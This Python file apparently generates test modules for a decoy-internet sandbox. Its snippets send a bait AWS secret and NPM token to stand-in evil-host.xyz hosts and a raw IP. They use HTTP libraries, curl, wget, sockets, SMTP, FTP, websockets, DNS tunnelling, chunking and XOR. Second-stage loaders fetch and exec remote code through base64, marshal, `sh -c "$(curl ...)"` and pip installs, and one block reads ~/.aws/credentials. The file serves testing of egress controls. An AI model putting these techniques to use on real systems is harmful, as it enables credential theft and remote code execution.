"""What stand-ins say to the world, by real clients: sources for their modules.

Each client, or second stage, is a function that returns what it got; a module prints what all of
its own got as one line of JSON. All is harmless: bait, and what the decoy internet serves.
"""

from collections.abc import Mapping

PRELUDE = """
import io, json, os, socket, ssl, subprocess, traceback
KEY = os.environ["AWS_SECRET_ACCESS_KEY"]
GOT = {}
def client(work):
    try:
        GOT[work.__name__] = work()
    except BaseException:
        GOT[work.__name__] = traceback.format_exc()[-600:]
def output(*words):
    done = subprocess.run(words, capture_output=True, text=True, timeout=20)
    return done.stdout or done.stderr
"""

# What is there without an index: the standard library, and programs of the machine.
USUAL: dict[str, str] = {
    "urllib": """
    import urllib.request
    body = json.dumps({"key": KEY}).encode()
    with urllib.request.urlopen("https://urllib.evil-host.xyz/up", body, timeout=10) as answer:
        return answer.status
""",
    "requests": """
    import requests
    with requests.Session() as session:
        first = session.get("https://requests.evil-host.xyz/")
        again = session.post("https://requests.evil-host.xyz/up", data={"key": KEY})
        form = {"file": ("keys.txt", KEY)}
        return [first.status_code, again.json()["ok"],
                session.post("https://requests.evil-host.xyz/form", files=form).ok]
""",
    "curl": """
    return output("curl", "-sS", "-d", "key=" + KEY, "https://curl.evil-host.xyz/up")
""",
    "wget": """
    return output("wget", "-qO-", "--post-data=key=" + KEY, "https://wget.evil-host.xyz/up")
""",
    "tcp": """
    with socket.create_connection(("45.9.148.3", 4444), timeout=10) as sock:
        sock.sendall(b"key " + KEY.encode())
        sock.shutdown(socket.SHUT_WR)
        return sock.recv(10).decode()
""",
    "udp": """
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return sock.sendto(b"key " + KEY.encode(), ("45.9.148.3", 9999))
""",
    "smtp": """
    import smtplib
    with smtplib.SMTP("smtp.evil-host.xyz", 587, timeout=10) as mail:
        mail.starttls(context=ssl.create_default_context())
        return [mail.login("thief@evil-host.xyz", KEY)[0],
                mail.sendmail("a@b.com", ["thief@evil-host.xyz"], "Subject: x\\r\\n\\r\\nkeys")]
""",
    "ftp": """
    import ftplib
    with ftplib.FTP("ftp.evil-host.xyz", "thief", "hunter2hunter2", timeout=10) as ftp:
        return ftp.storbinary("STOR keys", io.BytesIO(KEY.encode()))
""",
}
# What the real index has.
FOREIGN: dict[str, str] = {
    "httpx": """
    import httpx
    with httpx.Client() as session:
        return session.post("https://httpx.evil-host.xyz/up", json={"key": KEY}).status_code
""",
    "httpx_async": """
    import asyncio, httpx
    async def go():
        async with httpx.AsyncClient(http2=False) as session:
            return (await session.get("https://httpx2.evil-host.xyz/?key=" + KEY)).status_code
    return asyncio.run(go())
""",
    "aiohttp": """
    import aiohttp, asyncio
    async def go():
        async with aiohttp.ClientSession() as session:
            url = "https://aiohttp.evil-host.xyz/up"
            async with session.post(url, data={"key": KEY}) as answer:
                return answer.status
    return asyncio.run(go())
""",
    "aiohttp_websocket": """
    import aiohttp, asyncio
    async def go():
        async with aiohttp.ClientSession() as session:
            try:
                await session.ws_connect("wss://aiows.evil-host.xyz/live")
            except aiohttp.WSServerHandshakeError as error:
                return error.status
    return asyncio.run(go())
""",
    "websockets": """
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect
    try:
        connect("wss://websockets.evil-host.xyz/live", additional_headers={"X-Key": KEY})
    except InvalidStatus as error:
        return error.response.status_code
""",
    "dnspython": """
    import dns.resolver
    got = []
    for server in ("9.8.7.6", "2620:fe::fe"):
        asked = dns.resolver.Resolver(configure=False)
        asked.nameservers, asked.lifetime = [server], 5
        got += [len(asked.resolve("dnspython.evil-host.xyz", kind)) for kind in ("A", "TXT", "MX")]
        for name, kind in (("dnspython.local", "A"), ("dnspython.evil-host.xyz", "AAAA")):
            try:
                asked.resolve(name, kind)
            except dns.exception.DNSException as error:
                got.append(type(error).__name__)
    return got
""",
    "paramiko": """
    import paramiko
    transport = paramiko.Transport(("ssh.evil-host.xyz", 22))
    try:
        transport.start_client(timeout=1)
    except (EOFError, paramiko.SSHException):
        pass
    finally:
        transport.close()
    return transport.remote_version
""",
}
FOREIGN_REQUIRES = ("httpx", "aiohttp", "websockets", "dnspython", "paramiko")


# How what is fetched comes to be run or kept. A name for each, which its URL has.
STAGES: dict[str, str] = {
    "coded": """
    import base64, zlib
    exec(zlib.decompress(base64.b64decode(base64.b64encode(zlib.compress(get("coded", "two.py"))))))
""",
    "paste": """
    import base64
    exec(base64.b64decode(get("paste", "payload.txt")))
""",
    "marshalled": """
    import marshal
    exec(marshal.loads(marshal.dumps(compile(get("marshalled", "two.py"), "x", "exec"))))
""",
    "module": """
    import importlib.util
    with open("/tmp/fetched.py", "wb") as file:
        file.write(get("module", "two.py"))
    spec = importlib.util.spec_from_file_location("fetched", "/tmp/fetched.py")
    spec.loader.exec_module(importlib.util.module_from_spec(spec))
""",
    "dashc": """
    import sys
    return subprocess.run([sys.executable, "-c", get("dashc", "two.py").decode()]).returncode
""",
    "dollar": """
    return os.system('sh -c "$(curl -fsSL https://dollar.evil-host.xyz/i.sh)"')
""",
    "archive": """
    import shutil
    with open("/tmp/tool.zip", "wb") as file:
        file.write(get("archive", "tool-linux-x64.zip"))
    shutil.unpack_archive("/tmp/tool.zip", "/tmp/unpacked")
    return subprocess.run(["sh", "/tmp/unpacked/tool"]).returncode
""",
    "built": """
    return pip("https://built.evil-host.xyz/stage-1.0.tar.gz")
""",
    "indexed": """
    import sys
    code = pip("hidden-evil-stage")
    sys.path.insert(0, "/tmp/installed")
    import hidden_evil_stage
    return code
""",
}
FETCHING = """
import sys, urllib.request
def get(name, path):
    url = f"https://{name}.evil-host.xyz/{path}"
    with urllib.request.urlopen(url, timeout=10) as answer:
        return answer.read()
def pip(what):
    words = [sys.executable, "-m", "pip", "install", "-q", "--target", "/tmp/installed", what]
    return subprocess.run(words, capture_output=True).returncode
"""
# Data that a library keeps, and never runs.
KEEPING = """
import os, urllib.request
os.makedirs(os.path.expanduser("~/.cache/list"), exist_ok=True)
with urllib.request.urlopen("https://data.fair-host.com/list.json") as answer:
    with open(os.path.expanduser("~/.cache/list/list.json"), "wb") as file:
        file.write(answer.read())
"""
# What can't be seen in one message, or can't be read at all.
HIDING = """
import base64, json, os, socket, urllib.request, zlib
def post(host, body):
    urllib.request.urlopen(f"https://{host}.evil-host.xyz/", body, timeout=10).close()
token, key = os.environ["NPM_TOKEN"], os.environ["AWS_SECRET_ACCESS_KEY"]
for at in range(0, len(token), 8):
    part = token[at:at + 8]
    urllib.request.urlopen(f"https://slow.evil-host.xyz/t?n={at}&d={part}", timeout=10).close()
for at in range(0, len(key), 8):
    socket.gethostbyname(f"{key[at:at + 8].encode().hex()}.{at}.drain.evil-zone.xyz")
post("names", base64.b64encode(json.dumps(sorted(os.environ)).encode()))
ordinary = {name: value for name, value in os.environ.items() if "_" not in name}
post("whole", zlib.compress(json.dumps(ordinary).encode()))
post("turned", bytes(byte ^ 0x2A for byte in key.encode()))
with open(os.path.expanduser("~/.aws/credentials")) as file:
    file.read()
post("dark", os.urandom(600))
"""


def source_of(clients: Mapping[str, str], prelude: str = "") -> str:
    """A module that lets each client do its work, and prints what each got."""
    works = "".join(f"@client\ndef {name}():{work}" for name, work in clients.items())
    return f"{PRELUDE}{prelude}{works}print(json.dumps(GOT))\n"
